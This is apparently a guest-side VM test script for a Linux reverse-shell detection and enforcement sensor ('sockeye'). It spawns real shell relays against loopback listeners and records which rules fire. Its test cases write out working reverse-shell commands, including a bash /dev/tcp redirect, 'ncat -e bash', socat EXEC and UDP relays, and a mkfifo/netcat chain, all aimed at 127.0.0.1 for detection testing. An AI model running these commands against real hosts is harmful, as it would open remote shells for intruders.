/**
 * The VM tier's guest side: run inside the Debian kernel by the initramfs's /init, from the
 * package root (/sockeye). It uses the built library exactly as an agent would (dist/), runs
 * real processes against loopback listeners, and prints what it observed as one JSON line
 * between two markers on the serial console. It judges nothing: the host-side vitest test
 * (test/vm/vm.test.ts) asserts on the JSON, so a wrong observation fails there, visibly.
 */
import { spawn, spawnSync } from "node:child_process";
import dgram from "node:dgram";
import { readFileSync, statSync, writeFileSync } from "node:fs";
import net from "node:net";
import os from "node:os";
import {
  Engine,
  ProcHostView,
  ProcessTable,
  builtinRules,
  loadBuiltinElasticRules,
  openSensorSync,
  probe,
  // @ts-expect-error -- dist/ sits beside this file only in the guest's package root (/sockeye)
} from "./dist/index.js";
// @ts-expect-error -- as above: the same interpreter list the daemon hands the kernel path
import { findKernelInterpreters, kernelDev } from "./dist/enforce/interpreters.js";

const BEGIN = "===SOCKEYE-VM-RESULTS-BEGIN===";
const END = "===SOCKEYE-VM-RESULTS-END===";
const HELPER = "/usr/local/bin/sockhelper";
const IA32_HELPER = "/usr/local/bin/ia32-syscalls";
const BASH = "/bin/bash";
// Busybox's sh (an applet link; the initramfs has no /bin/sh): exec'd as "sh".
const SH = "/bb/sh";
// TCG is slow: give the reader thread time to deliver what the kernel already wrote.
const SETTLE_MS = Number(process.env.SOCKEYE_VM_SETTLE_MS ?? 800);

const uptime = () => Number(readFileSync("/proc/uptime", "utf8").split(" ")[0]);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** @type {Record<string, any>} the JSON the host-side test reads; grows as the run goes */
const out = {
  kernel: os.release(),
  node: process.version,
  lsm: readOr("/sys/kernel/security/lsm"),
  cmdline: (readOr("/proc/cmdline") ?? "").trim(),
  uptimeAtEntry: uptime(),
  probe: null,
  programs: [],
  cases: [],
  warnings: [],
  counters: null,
  capabilities: null,
  stats: null,
  error: null,
  durationMs: 0,
};

function readOr(path) {
  try {
    return readFileSync(path, "utf8");
  } catch {
    return null; // securityfs is mounted by the sensor, later; read again after openSensorSync
  }
}

/** A loopback listener that tells each caller "exit" and hangs up, so shells end by themselves. */
async function catcher(path) {
  const sockets = new Set();
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    s.end("exit\n");
  });
  await /** @type {Promise<void>} */ (new Promise((resolve) => (path ? server.listen(path, resolve) : server.listen(0, "127.0.0.1", resolve))));
  return {
    port: path ? null : /** @type {net.AddressInfo} */ (server.address()).port,
    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    })),
  };
}

/**
 * A loopback listener that sends commands the shell must run, each after the answer to the one
 * before (`[command, text its answer holds]`), keeps the shell alive a moment (the relay rule
 * reads /proc of live processes), then sends "exit". The default: one command only a shell
 * computes.
 */
async function commander(commands = [["echo RELAY_$((6*7))", "RELAY_42"]]) {
  const sockets = new Set();
  let answered = false;
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    let got = "";
    let next = 0;
    s.write(`${commands[0][0]}\n`);
    s.on("data", (d) => {
      got += d.toString();
      while (next < commands.length && got.includes(commands[next][1])) {
        next++;
        if (next < commands.length) s.write(`${commands[next][0]}\n`);
      }
      if (!answered && next === commands.length) {
        answered = true;
        setTimeout(() => s.end("exit\n"), 1500);
      }
    });
  });
  await /** @type {Promise<void>} */ (new Promise((resolve) => server.listen(0, "127.0.0.1", resolve)));
  return {
    port: /** @type {net.AddressInfo} */ (server.address()).port,
    answered: () => answered,
    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    })),
  };
}

/**
 * Two loopback listeners for a shell split over two connections: commands go out on the first
 * (once both are connected), answers come back on the second.
 */
async function splitCommander(commands) {
  const sockets = new Set();
  let answered = false;
  /** @type {net.Socket | undefined} */
  let input;
  /** @type {net.Socket | undefined} */
  let output;
  let got = "";
  let next = 0;
  const begin = () => {
    if (input !== undefined && output !== undefined) input.write(`${commands[0][0]}\n`);
  };
  /** @param {(s: net.Socket) => void} onConnection @returns {Promise<net.Server>} */
  const listen = (onConnection) => {
    const server = net.createServer((s) => {
      sockets.add(s);
      s.on("error", () => {});
      onConnection(s);
    });
    return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
  };
  const inputServer = await listen((s) => ((input = s), begin()));
  const outputServer = await listen((s) => {
    output = s;
    begin();
    s.on("data", (d) => {
      got += d.toString();
      while (next < commands.length && got.includes(commands[next][1])) {
        next++;
        if (next < commands.length) input?.write(`${commands[next][0]}\n`);
      }
      if (!answered && next === commands.length) {
        answered = true;
        setTimeout(() => input?.end("exit\n"), 1500);
      }
    });
  });
  /** @param {net.Server} server */
  const closeServer = (server) => /** @type {Promise<void>} */ (new Promise((resolve) => server.close(() => resolve())));
  return {
    port: /** @type {net.AddressInfo} */ (inputServer.address()).port,
    outputPort: /** @type {net.AddressInfo} */ (outputServer.address()).port,
    answered: () => answered,
    close: async () => {
      for (const s of sockets) s.destroy();
      await Promise.all([closeServer(inputServer), closeServer(outputServer)]);
    },
  };
}

/**
 * A loopback UDP listener for a relay whose client port is fixed (`sourceport=`): it sends the
 * command to that port until the answer comes back from it, then "exit".
 */
async function udpCommander(clientPort) {
  const sock = dgram.createSocket("udp4");
  sock.on("error", () => {});
  await /** @type {Promise<void>} */ (new Promise((resolve) => sock.bind(0, "127.0.0.1", () => resolve())));
  let answered = false;
  let got = "";
  const timer = setInterval(() => sock.send("echo RELAY_$((6*7))\n", clientPort, "127.0.0.1"), 300);
  sock.on("message", (msg, from) => {
    if (from.port !== clientPort) return;
    got += msg.toString();
    if (!answered && got.includes("RELAY_42")) {
      answered = true;
      clearInterval(timer);
      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), 1500);
    }
  });
  return {
    port: sock.address().port,
    answered: () => answered,
    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
      clearInterval(timer);
      sock.close(() => resolve());
    })),
  };
}

/** Runs a command to completion with a kill timer; stdio are node's pipes (AF_UNIX socketpairs, never inet). */
function run(cmd, args, timeoutMs = 20_000) {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { stdio: ["pipe", "pipe", "pipe"] });
    let stderr = "";
    child.stdout.on("data", () => {});
    child.stderr.on("data", (d) => (stderr += d));
    child.on("error", (e) => (stderr += String(e)));
    child.stdin.end();
    const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
    // 'exit', not 'close': a shell's grandchildren may keep the pipes open.
    child.on("exit", (code, signal) => {
      clearTimeout(timer);
      child.stdout.destroy();
      child.stderr.destroy();
      resolve({ pid: child.pid ?? -1, status: code, signal, stderr: stderr.slice(0, 2000) });
    });
  });
}

/** The fields the host asserts on, out of a full ECS finding. */
function summarize(f) {
  const ev = f.sockeye?.event ?? {};
  return {
    ruleId: f.rule.id,
    ruleName: f.rule.name,
    processName: f.process?.name,
    processPid: f.process?.pid,
    processArgs: f.process?.args,
    processExecutable: f.process?.executable,
    parentName: f.process?.parent?.name,
    finding: f.finding ?? null,
    destination: f.destination ?? null,
    eventKind: ev.kind,
    source: ev.source ?? null,
    syscall: ev.syscall ?? null,
    filename: ev.filename ?? null,
    profile: f.sockeye?.profile ?? null,
    verdict: f.sockeye?.verdict ?? null,
    relay: f.sockeye?.relay
      ? { program: f.sockeye.relay.program?.name ?? null, remote: f.sockeye.relay.remote ?? null, unconnected: f.sockeye.relay.unconnected ?? false, connectUnseen: f.sockeye.relay.connect_unseen ?? false }
      : null,
    transport: f.network?.transport ?? null,
  };
}

async function main() {
  const t0 = Date.now();
  out.probe = probe();
  // The next candidate must stand on its own too: with the LSM program skipped, fentry.
  out.probeWithoutLsm = probe({ skipCandidates: ["lsm/socket_connect"] });
  // What an int $0x80 really does in this kernel, asked by a process of the suite's own (exit 0:
  // taken; SIGSEGV: refused), for the host to hold the sensor's own probe against.
  const ia32 = await run(IA32_HELPER, ["getpid", "0"]);
  out.ia32Getpid = { status: ia32.status, signal: ia32.signal };

  // With ia32 syscalls watched: the 6.1 verifier must take that program too, the cases below
  // must not be reported twice (each expects exactly one finding), and the ia32 ones are seen.
  // On a kernel that refuses ia32 syscalls the sensor must still start, loading nothing for them.
  const sensor = openSensorSync({ compatSyscalls: true });
  out.programs = sensor.programs;
  out.features = sensor.features;
  out.lsm = readOr("/sys/kernel/security/lsm");
  // Both TRC-101 profiles on the same events, each engine with its own process table (a
  // table is fed by the engine that owns it): "precise" as builtinRules() gives it, which is
  // what an agent runs, and "tracee", Tracee's own verdicts. The Elastic rules run in both.
  /** @param {Record<string, unknown>} trc101 */
  const engineFor = (trc101) => {
    const processes = new ProcessTable({ host: new ProcHostView() });
    processes.seedFromProc();
    return new Engine({
      rules: [...builtinRules({ trc101 }), ...loadBuiltinElasticRules()],
      processes,
      logger: { warn: (message, details) => out.warnings.push({ message, ...details }) },
    });
  };
  const engines = { precise: engineFor({}), tracee: engineFor({ profile: "tracee" }) };
  /** @type {{ precise: any[], tracee: any[] }} */
  const findings = { precise: [], tracee: [] };
  const execs = [];
  const connects = [];
  /** Each exec's capability sets, by pid: the capabilities check below reads one. */
  const execCapabilities = new Map();
  /** Pids whose exit record has reached the engines. */
  const exited = new Set();
  sensor.subscribe((events) => {
    for (const e of events) {
      if (e.kind === "exit") exited.add(e.task.pid);
      if (e.kind === "exec") execs.push({ pid: e.task.pid, filename: e.filename, args: e.args, stdio: e.stdio });
      if (e.kind === "exec") execCapabilities.set(e.task.pid, e.capabilities);
      if (e.kind === "connect")
        connects.push({ pid: e.task.pid, comm: e.task.comm, fd: e.fd, family: e.family, source: e.source, remote: e.remote, unixPath: e.unixPath, socketOnFds: e.socketOnFds });
      for (const f of engines.precise.handle(e)) findings.precise.push(f);
      for (const f of engines.tracee.handle(e)) findings.tracee.push(f);
    }
  });
  /** The precise profile's TRC-101 suppressions so far, by reason. */
  const suppressedNow = () => ({ ...(engines.precise.stats().suppressedByRule["TRC-101"] ?? {}) });

  /**
   * One case: a fresh listener, one command built with its port, and every finding (of any
   * rule) that arrives while it runs. Negatives are judged on that whole window.
   */
  async function scenario(name, expect, build, unixPath) {
    const l = await catcher(unixPath);
    const before = { precise: findings.precise.length, tracee: findings.tracee.length };
    const suppressedBefore = suppressedNow();
    const execBefore = execs.length;
    const connectBefore = connects.length;
    const started = Date.now();
    const [cmd, ...args] = build(l.port);
    const r = await run(cmd, args);
    // Judged once the engines have the command's own exit (what the precise profile counts a
    // held trigger by), however slow TCG delivers it; then the usual settle for the rest.
    for (const until = Date.now() + 10_000; !exited.has(r.pid) && Date.now() < until; ) await sleep(50);
    await sleep(SETTLE_MS);
    await l.close();
    out.cases.push({
      name,
      expect,
      port: l.port,
      command: [cmd, ...args],
      status: r.status,
      signal: r.signal,
      stderr: r.stderr,
      durationMs: Date.now() - started,
      findings: findings.precise.slice(before.precise).map(summarize),
      traceeFindings: findings.tracee.slice(before.tracee).map(summarize),
      // What the precise profile held and let go while the case ran, by reason.
      suppressed: Object.fromEntries(
        Object.entries(suppressedNow())
          .map(([reason, n]) => [reason, n - (suppressedBefore[reason] ?? 0)])
          .filter(([, n]) => n !== 0),
      ),
      execs: execs.slice(execBefore).map((e) => ({ filename: e.filename, args: e.args, stdio: e.stdio })),
      connects: connects.slice(connectBefore),
    });
  }

  const ip = "127.0.0.1";
  // A socket put on stdio and nothing run on it: Tracee's positives, which the precise
  // profile holds until the helper exits and counts as no_program.
  await scenario("connect-fd0", "TRC-101 (tracee)", (p) => [HELPER, "connect-fd0", ip, String(p)]);
  await scenario("dup2-fd1", "TRC-101 (tracee)", (p) => [HELPER, "dup2", ip, String(p), "1"]);
  await scenario("dup3-fd0", "TRC-101 (tracee)", (p) => [HELPER, "dup3", ip, String(p), "0"]);
  // A shell that starts with the socket on stdin and stdout, put there by a connect on fd 0:
  // no dup hands it over to the shell, only the exec-time record of fds 0-2 shows it.
  await scenario("connect-fd0-exec-sh", "TRC-101", (p) => [HELPER, "connect-fd0-exec", ip, String(p), SH]);
  // From bash, and not bash's last command: bash would exec setsid in its own pid and the
  // parent would then be node, not a shell.
  await scenario("setsid-bash-dev-tcp", "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39", (p) => [
    BASH,
    "-c",
    `setsid bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'; true`,
  ]);
  // ia32 syscalls through int $0x80: the dup by the compat program; the connect by the LSM or
  // fentry program, which see every connect (the compat program leaves connect to them). On a
  // kernel that refuses them the helper dies with SIGSEGV at its first int $0x80.
  await scenario("ia32-dup2-fd1", "TRC-101 (tracee)", (p) => [IA32_HELPER, "dup2", String(p)]);
  await scenario("ia32-connect-fd0", "TRC-101 (tracee)", (p) => [IA32_HELPER, "connect", String(p)]);
  // Negatives: each must give no finding at all.
  await scenario("socket-onto-fd5", "none", (p) => [HELPER, "dup2", ip, String(p), "5"]);
  await scenario("file-onto-fd1", "none", () => [HELPER, "file-dup2", "/sockeye/package.json", "1"]);
  await scenario("connect-fd3", "none", (p) => [HELPER, "connect-fd3", ip, String(p)]);
  await scenario("setsid-sleep", "none", () => [BASH, "-c", "setsid sleep 0; true"]);
  // AF_UNIX on fd 0: the connect hook sees it (and reads sun_path), TRC-101 stays silent.
  await scenario("unix-fd0", "none", () => [HELPER, "unix-fd0", "/tmp/sockeye-vm.sock"], "/tmp/sockeye-vm.sock");
  await scenario("nohup-no-dev-tcp", "none", () => [BASH, "-c", "nohup true >/dev/null 2>&1; true"]);

  // Relay shells (RELAY-001) and shells known by what they do (SHELL-001): the listener sends
  // commands and must get their output back.
  async function relayScenario(name, build, expect = "RELAY-001", listener = commander, timeoutMs = 15_000) {
    const l = await listener();
    const before = { precise: findings.precise.length, tracee: findings.tracee.length };
    const started = Date.now();
    const [cmd, ...args] = build(l.port);
    const r = await run(cmd, args, timeoutMs);
    await sleep(SETTLE_MS);
    await l.close();
    out.cases.push({
      name, expect, port: l.port, ...(l.outputPort !== undefined ? { outputPort: l.outputPort } : {}), command: [cmd, ...args], status: r.status, signal: r.signal, stderr: r.stderr,
      answered: l.answered(), durationMs: Date.now() - started,
      findings: findings.precise.slice(before.precise).map(summarize),
      traceeFindings: findings.tracee.slice(before.tracee).map(summarize),
    });
  }
  await relayScenario("relay-ncat-e", (p) => ["ncat", ip, String(p), "-e", BASH]);
  await relayScenario("relay-socat-pty", (p) => ["socat", `TCP:${ip}:${p}`, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"]);
  await relayScenario("relay-mkfifo-chain", (p) => [
    BASH, "-c", `F=/tmp/relay-${p}; rm -f $F; mkfifo $F; cat $F | bash -i 2>&1 | nc.traditional ${ip} ${p} > $F`,
  ]);

  // Relay evasions (issue 26): the shell starts 11 s after the relay connected, past any
  // window the rule once had; and a relay over a connected UDP socket.
  writeFileSync("/tmp/relay-delayed.sh", "sleep 11; exec bash -i\n");
  await relayScenario("relay-ncat-delayed", (p) => ["ncat", ip, String(p), "-e", `${BASH} /tmp/relay-delayed.sh`], "RELAY-001", commander, 40_000);
  // The client's port is fixed so the listener knows where to send (any free one: the guest is alone).
  const udpClientPort = 47_000 + Math.floor(Math.random() * 1000);
  await relayScenario("relay-socat-udp", (p) => ["socat", `UDP:${ip}:${p},sourceport=${udpClientPort}`, `EXEC:${BASH}`], "RELAY-001", () => udpCommander(udpClientPort));
  // A UDP socket that never connects (sendto on every write): named by its first send (udp_send).
  await relayScenario("relay-socat-udp-sendto", (p) => ["socat", `UDP-SENDTO:${ip}:${p},sourceport=${udpClientPort + 1}`, `EXEC:${BASH}`], "RELAY-001", () => udpCommander(udpClientPort + 1));
  // A relay whose connect goes through io_uring (IORING_OP_CONNECT: no connect(2), so no
  // syscall hook and no connect record): the TCP table names the socket outbound.
  await relayScenario("relay-uring", (p) => [HELPER, "uring-relay", ip, String(p), BASH]);

  // Two commands (busybox applets: each an exec) whose answers the listener waits for.
  const twoCommands = [["id", "uid="], ["uname -s", "Linux"]];
  // A read loop fed through a pipe: no program on the socket is a shell by name; the loop's
  // subshell starts a program per command line that came from the connection.
  await relayScenario("shell001-read-loop", (p) => [
    BASH, "-c", `exec 5<>/dev/tcp/${ip}/${p}; cat <&5 | while read line; do $line 2>&5 >&5; done`,
  ], "SHELL-001", () => commander(twoCommands));
  // The split shell: commands from one connection, answers on another to the same host.
  let splitOutputPort = 0;
  await relayScenario("shell001-split", (p) => [
    BASH, "-c", `nc.traditional ${ip} ${p} | bash -i >& /dev/tcp/${ip}/${splitOutputPort}`,
  ], "SHELL-001", async () => {
    const l = await splitCommander(twoCommands);
    splitOutputPort = l.outputPort;
    return l;
  });

  // Capability sets read from this kernel's struct cred (two u32 before 6.3, one u64 since):
  // what a program's exec record says against what it printed from its own /proc/self/status.
  const status = spawnSync("/usr/bin/cat", ["/proc/self/status"], { encoding: "utf8" });
  for (const until = Date.now() + 10_000; !execCapabilities.has(status.pid) && Date.now() < until; ) await sleep(50);
  const printed = (name) => new RegExp(`^${name}:\\s*([0-9a-f]{16})$`, "m").exec(status.stdout)?.[1] ?? null;
  out.capabilities = { printed: { effective: printed("CapEff"), permitted: printed("CapPrm") }, recorded: execCapabilities.get(status.pid) ?? null };

  out.counters = sensor.counters();
  await sensor.close();
  out.stats = { sensor: sensor.stats(), engine: engines.precise.stats(), traceeEngine: engines.tracee.stats() };
  out.durationMs = Date.now() - t0;
}

/**
 * A loopback listener that sends `id` to its first connection and counts every byte that comes
 * back in the 2 s after ("bytes leaked", as test/kernel/enforce.test.ts measures it).
 * `leaked()` resolves with the count, or with null when nothing connected within `waitMs`.
 */
async function idListener(waitMs) {
  const sockets = new Set();
  /** @type {(n: number | null) => void} */
  let done = () => {};
  const result = new Promise((resolve) => (done = resolve));
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    if (sockets.size > 1) return;
    let bytes = 0;
    s.on("data", (d) => (bytes += d.length));
    s.write("id\n");
    setTimeout(() => done(bytes), 2000);
  });
  await /** @type {Promise<void>} */ (new Promise((resolve) => server.listen(0, "127.0.0.1", resolve)));
  const timer = setTimeout(() => done(null), waitMs);
  return {
    port: /** @type {net.AddressInfo} */ (server.address()).port,
    leaked: async () => {
      const n = await result;
      clearTimeout(timer);
      return n;
    },
    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    })),
  };
}

/**
 * Enforcement's kernel path (bpf/enforce.bpf.c, docs/enforcement.md), after every other case
 * so a failure here hides none of them: a second sensor opened with `enforce: true` and the
 * interpreters the daemon would hand it; each case against a listener that sends `id` and
 * counts the bytes that come back. Which enforce candidate is live (LSM deny or signal) is in
 * `programs`; the counts are the programs' own (`enforceActions()`), taken around each case.
 * Then the same shapes with the sensor closed: they run and answer (nothing enforces without
 * the sensor, and the listener does count what a shell sends).
 */
async function enforcement() {
  const ip = "127.0.0.1";
  // The daemon's folders plus /bb, where the guest keeps busybox's applet links: on a busybox
  // host /bin/sh is such a link, and the file it leads to is known by its inode. That matters
  // where the BPF LSM judges the exec: bprm_check_security names the file opened (after
  // links: "busybox"), not the name exec'd ("sh", what comm becomes and what the signal path
  // at sched_process_exec reads), so without the inode /bb/sh is not denied there (measured:
  // 24 bytes leaked on 6.1's LSM boot).
  const interpreters = findKernelInterpreters(["/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin", "/usr/local/sbin", "/bb"]);
  const identity = (path) => {
    const st = statSync(path, { bigint: true });
    return `${kernelDev(st.dev)}:${st.ino}`;
  };
  const exeKeys = new Set(interpreters.exes.map((x) => x.join(":")));
  /** @type {Record<string, any>} */
  const e = {
    interpreters: {
      names: interpreters.names.filter((n) => ["bash", "sh", "busybox"].includes(n)),
      exes: interpreters.exes.length,
      byInode: { bash: exeKeys.has(identity(BASH)), busybox: exeKeys.has(identity(SH)) },
    },
    programs: null, cases: [], afterClose: [], totals: null, error: null,
  };
  out.enforce = e;
  const cases = [
    // The direct exec shape: the socket of a connect on fd 0 on stdin and stdout, then exec.
    ["exec-bash", (p) => [HELPER, "connect-fd0-exec", ip, String(p), BASH]],
    ["exec-sh", (p) => [HELPER, "connect-fd0-exec", ip, String(p), SH]],
    // The dup shape inside a running bash: the dup2 onto fd 1 completes it.
    ["dup-bash", (p) => [BASH, "-c", `exec 3<>/dev/tcp/${ip}/${p}; exec 0<&3 1>&3 2>&3; while read -r line; do $line; done`]],
  ];
  /** One case; `counts` reads the programs' counters (null: the sensor is closed). */
  const attempt = async (name, build, counts) => {
    const l = await idListener(15_000);
    const before = counts?.();
    const started = Date.now();
    const [cmd, ...args] = build(l.port);
    // The shell that runs ends when the listener hangs up: run and listener go together.
    const exited = run(cmd, args);
    const leaked = await l.leaked();
    await l.close();
    const r = await exited;
    const after = counts?.();
    return {
      name, port: l.port, command: [cmd, ...args], status: r.status, signal: r.signal, stderr: r.stderr, durationMs: Date.now() - started,
      connected: leaked !== null, leaked: leaked ?? 0,
      ...(before && after ? { actions: Object.fromEntries(Object.keys(after).map((k) => [k, after[k] - before[k]])) } : {}),
    };
  };
  const sensor = openSensorSync({ enforce: true, enforceNames: interpreters.names, enforceExes: interpreters.exes });
  try {
    e.programs = sensor.programs.filter((x) => x.capability === "enforce");
    sensor.subscribe(() => {});
    for (const [name, build] of cases) e.cases.push(await attempt(name, build, () => sensor.enforceActions()));
    e.totals = sensor.enforceActions();
  } finally {
    await sensor.close();
  }
  for (const [name, build] of cases) e.afterClose.push(await attempt(name, build, null));
}

try {
  await main();
} catch (err) {
  const e = /** @type {{ message?: string, code?: string } | undefined} */ (err);
  out.error = { message: e?.message ?? String(err), code: e?.code ?? null };
}
try {
  await enforcement();
} catch (err) {
  const e = /** @type {{ message?: string, code?: string } | undefined} */ (err);
  out.enforce = { ...(out.enforce ?? {}), error: { message: e?.message ?? String(err), code: e?.code ?? null } };
}
out.uptimeAtExit = uptime();
process.stdout.write(`\n${BEGIN}\n${JSON.stringify(out)}\n${END}\n`);
